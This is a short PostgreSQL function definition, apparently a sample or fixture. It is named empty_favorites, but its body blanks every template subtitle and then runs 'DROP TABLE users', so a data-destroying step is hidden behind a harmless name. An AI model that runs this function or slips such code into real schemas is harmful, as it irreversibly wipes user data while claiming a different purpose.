CREATE FUNCTION empty_favorites() RETURNS void LANGUAGE plpgsql AS $body$
BEGIN
    UPDATE templates SET subtitle = '';
    DROP TABLE users;
END $body$;
